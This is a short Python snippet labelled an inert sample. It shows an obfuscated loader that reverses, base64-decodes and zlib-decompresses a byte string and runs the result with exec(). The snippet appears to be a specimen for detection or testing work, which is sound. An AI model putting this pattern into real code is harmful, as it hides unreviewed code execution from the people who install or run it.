# INERT SAMPLE: never run.
import zlib, base64 as _b
_ = lambda __ : __import__('zlib').decompress(_b.b64decode(__[::-1]))
exec((_)(b'=E5BicFAEcdVJhcLM7EKRpSLLx8zQF9KMrMKrwJe'))
